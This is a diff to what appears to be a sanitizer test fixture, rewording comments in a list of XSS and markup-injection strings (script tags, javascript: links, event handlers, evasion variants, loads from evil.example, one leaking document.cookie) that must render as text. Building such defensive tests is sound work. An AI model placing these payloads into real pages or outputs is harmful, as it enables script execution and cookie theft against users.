@@ -1,4 +1,7 @@
-/** What an answer could carry to run code, to load from elsewhere or to leave its place. All of it must stay text. */
+/**
+ * Text in an answer that could run code, load external content or break out of its container. All of it must
+ * stay text.
+ */
 export const hostilePayloads: string[] = [
   '<script>alert(1)</script>',
   'text <script src="https://evil.example/x.js"></script>',
@@ -68,7 +71,7 @@ export const hostilePayloads: string[] = [
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
   '[1]: javascript:alert(1)\n\nSee [1].',
   '<div><p>\n\n[x](javascript:alert(1))\n\n</p></div>',
-  // Elements that load by an attribute other than src.
+  // Elements that load through an attribute other than src.
   '<input type=image src=https://evil.example/p.png>',
   '<picture><source srcset="https://evil.example/p.png"><img></picture>',
   '<img srcset="https://evil.example/p.png 1x">',
@@ -108,7 +111,7 @@ export const hostilePayloads: string[] = [
   '<math href="javascript:alert(1)">x</math>',
   '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
   '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
-  // Forms, dialogs and what takes the focus.
+  // Forms, dialogs and elements that take the focus.
   '<form><button formaction="javascript:alert(1)">x</button></form>',
   '<form id=f></form><input form=f formaction=https://evil.example type=submit>',
   '<isindex action="javascript:alert(1)">',
@@ -145,7 +148,7 @@ export const hostilePayloads: string[] = [
   '<object onerror=alert(1) data=x></object>',
   '<xss oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</xss>',
   '<xss onwebkitanimationend=alert(1)>x</xss>',
-  // Broken markup that a lenient reader puts together.
+  // Broken markup that a lenient parser repairs.
   '<img/src=x/onerror=alert(1)>',
   '<img\nsrc=x\nonerror\n=alert(1)>',
   '<IMG SRC=x OnErRoR=alert(1)>',
@@ -175,7 +178,7 @@ export const hostilePayloads: string[] = [
   '<div id=__proto__ name=constructor>x</div>',
   '<a id=config><a id=config name=url href=https://evil.example>',
   '<img name=getElementById><img name=body>',
-  // Schemes in disguise.
+  // Disguised schemes.
   '[click](JAVASCRIPT://%0aalert(1))',
   '[click](javascript://example.com/%0Aalert%281%29)',
   '[click](javas&#99;ript:alert(1))',
@@ -217,7 +220,7 @@ export const hostilePayloads: string[] = [
   '![x](\u0009//evil.example/p.png)',
   '![a](<https://evil.example/p.png> =100x100)',
   '![x](https://evil.example/p.png?cookie=document.cookie)',
-  // Formulas, code, tables, notes.
+  // Formulas, code, tables, footnotes.
   '$\\href{javascript:alert(1)}{x}$',
   '$\\url{javascript:alert(1)}$',
   '$\\includegraphics{https://evil.example/p.png}$',
